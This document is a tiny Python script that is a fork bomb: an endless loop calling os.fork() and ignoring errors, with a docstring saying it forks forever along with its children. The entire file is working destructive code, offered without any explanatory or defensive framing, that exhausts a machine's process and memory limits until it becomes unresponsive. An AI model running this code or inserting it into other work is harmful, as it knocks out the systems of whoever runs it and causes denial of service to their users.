"""Forks for ever; so do its children."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
